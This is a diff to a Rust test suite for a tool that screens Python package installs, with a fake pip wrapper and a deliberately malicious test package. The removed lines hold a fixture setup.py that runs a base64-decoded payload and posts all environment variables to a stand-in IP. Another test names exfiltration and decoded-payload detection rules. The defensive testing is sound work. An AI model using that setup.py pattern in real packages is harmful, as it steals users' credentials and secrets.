@@ -13,124 +13,38 @@
 //! TLS runs against a local HTTPS index whose certificate comes from a test
 //! CA in tests/fixtures/tls (100-year validity, for 127.0.0.1 only).
 
-use std::path::{Path, PathBuf};
-use std::process::{Command, Output};
+use std::path::Path;
+use std::process::Output;
 
 mod common;
 
+use common::env::{text, Env, Pip};
 use common::{sdist, sha, wheel, Fault, Index};
 
-struct Env {
-    dir: tempfile::TempDir,
-    index: Index,
-    python: PathBuf,
-    canary: PathBuf,
-    evil_sha: String,
-}
-
-impl Env {
-    fn project(&self) -> PathBuf {
-        self.dir.path().join("project")
-    }
-
-    fn capture(&self) -> PathBuf {
-        self.dir.path().join("pip-capture")
-    }
-
-    fn command(&self, args: &[&str]) -> Command {
-        let mut cmd = common::isolated_install(&self.index.url(), self.dir.path());
-        cmd.current_dir(self.project())
-            .arg("--python")
-            .arg(&self.python)
-            .arg("--cache-dir")
-            .arg(self.dir.path().join("cache"))
-            .args(["--timeout", "5"])
-            .args(args);
-        cmd
-    }
-
-    fn guard(&self, args: &[&str]) -> Output {
-        let _ = std::fs::remove_dir_all(self.capture());
-        self.command(args).output().unwrap()
-    }
-
-    /// The requirements file pip received, or `None` when pip never ran.
-    fn pip_requirements(&self) -> Option<String> {
-        std::fs::read_to_string(self.capture().join("requirements.txt")).ok()
-    }
-}
-
-fn text(o: &Output) -> String {
-    format!(
-        "exit {:?}\n--- stdout\n{}\n--- stderr\n{}",
-        o.status.code(),
-        String::from_utf8_lossy(&o.stdout),
-        String::from_utf8_lossy(&o.stderr)
-    )
-}
-
-/// A python3 wrapper whose `-m pip` records what it was given instead of installing.
-fn fake_python(dir: &Path, capture: &Path) -> PathBuf {
-    let path = dir.join("python");
-    let script = format!(
-        r#"#!/bin/sh
-if [ "$1" = "-m" ] && [ "$2" = "pip" ]; then
-    mkdir -p '{cap}'
-    printf '%s\n' "$@" > '{cap}/argv'
-    prev=""
-    for a in "$@"; do
-        case "$prev" in
-            -r) cp "$a" '{cap}/requirements.txt' ;;
-            --find-links) cp -r "$a" '{cap}/links' ;;
-        esac
-        prev="$a"
-    done
-    exit 0
-fi
-exec python3 "$@"
-"#,
-        cap = capture.display()
-    );
-    std::fs::write(&path, script).unwrap();
-    use std::os::unix::fs::PermissionsExt;
-    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
-    path
-}
-
-fn setup() -> Env {
-    let dir = tempfile::tempdir().unwrap();
-    let canary = dir.path().join("CANARY");
-    let index = Index::start();
-    index.add("good", wheel("good", "1.0", &[]), Fault::None);
-    let setup_py = format!(
-        "import os, base64, urllib.request\nopen({:?}, 'w').write('setup.py ran')\nexec(base64.b64decode('cHJpbnQoJ2hpJyk='))\nurllib.request.urlopen('http://198.51.100.7/c', data=repr(dict(os.environ)).encode())\nfrom setuptools import setup\nsetup(name='evil-pkg', version='1.0')\n",
-        canary.display().to_string()
-    );
-    let evil = sdist(
+/// The canary sdist: its setup.py would create `env.canary` (never run here).
+fn evil_sdist(env: &Env) -> (String, Vec<u8>) {
+    sdist(
         "evil-pkg",
         "1.0",
         &[
-            ("setup.py", setup_py),
+            ("setup.py", env.canary_setup_py("evil-pkg")),
             (
                 "PKG-INFO",
                 "Metadata-Version: 2.1\nName: evil-pkg\nVersion: 1.0\n".into(),
             ),
         ],
-    );
-    let evil_sha = sha(&evil.1);
-    index.add("evil-pkg", evil, Fault::None);
+    )
+}
+
+fn setup() -> Env {
+    let env = Env::new(Pip::Recording);
+    env.index.add("good", wheel("good", "1.0", &[]), Fault::None);
+    env.index.add("evil-pkg", evil_sdist(&env), Fault::None);
     // The build dependencies of the sdist (never run here: pip is the wrapper).
-    index.add("setuptools", wheel("setuptools", "70.0", &[]), Fault::None);
-    index.add("wheel", wheel("wheel", "0.43", &[]), Fault::None);
-    std::fs::create_dir(dir.path().join("project")).unwrap();
-    let python = fake_python(dir.path(), &dir.path().join("pip-capture"));
-    Env {
-        dir,
-        index,
-        python,
-        canary,
-        evil_sha,
-    }
+    env.index
+        .add("setuptools", wheel("setuptools", "70.0", &[]), Fault::None);
+    env.index.add("wheel", wheel("wheel", "0.43", &[]), Fault::None);
+    env
 }
 
 /// The bytes pip receives are the bytes guard inspected: the requirements file
@@ -229,7 +143,7 @@ fn deny_is_never_installed_by_any_flag_combination() {
         env.project().join("guard.toml"),
         format!(
             "[install]\nsdist = \"allow\"\n\n[[allow]]\nname = \"evil-pkg\"\nversion = \"1.0\"\nsha256 = \"{}\"\nreason = \"reviewed by hand\"\n",
-            env.evil_sha
+            sha(&evil_sdist(&env).1)
         ),
     )
     .unwrap();
@@ -237,7 +151,7 @@ fn deny_is_never_installed_by_any_flag_combination() {
     assert_eq!(out.status.code(), Some(0), "{}", text(&out));
     let reqs = env.pip_requirements().expect("pip was run");
     assert!(
-        reqs.contains(&format!("evil-pkg==1.0 --hash=sha256:{}", env.evil_sha)),
+        reqs.contains(&format!("evil-pkg==1.0 --hash=sha256:{}", sha(&evil_sdist(&env).1))),
         "{reqs}"
     );
     assert!(!env.canary.exists(), "guard itself never runs setup.py");
@@ -255,7 +169,7 @@ fn locked_system_policy_keys_cannot_be_loosened() {
     .unwrap();
     let loosening = format!(
         "[verdict]\ndeny_at = \"critical\"\n[rules]\ndisable = [\"exec-decoded-payload\", \"exfiltration\", \"install-network\"]\n[install]\nnon_interactive = \"allow\"\nsdist = \"allow\"\n\n[[allow]]\nname = \"evil-pkg\"\nversion = \"1.0\"\nsha256 = \"{}\"\nreason = \"trying to get around the system policy\"\n",
-        env.evil_sha
+        sha(&evil_sdist(&env).1)
     );
     let user_dir = env.dir.path().join("config");
     std::fs::create_dir_all(&user_dir).unwrap();
@@ -436,6 +350,13 @@ fn tls_verification_cannot_be_silently_disabled() {
         assert!(err.contains("TLS certificate problem"), "{err}");
         assert!(err.contains(&format!("127.0.0.1:{port}/simple/lib/")), "{err}");
         assert!(err.contains("--cert"), "the advice names the fix: {err}");
+        // Issue 14: the TLS library's own reason follows as `caused by:` lines.
+        assert!(
+            err.lines()
+                .filter(|l| l.starts_with("  caused by: "))
+                .any(|l| l.to_ascii_lowercase().contains("certificate")),
+            "{err}"
+        );
         assert!(out.stdout.is_empty());
     }
     let ca = format!("{TLS}/ca.pem");
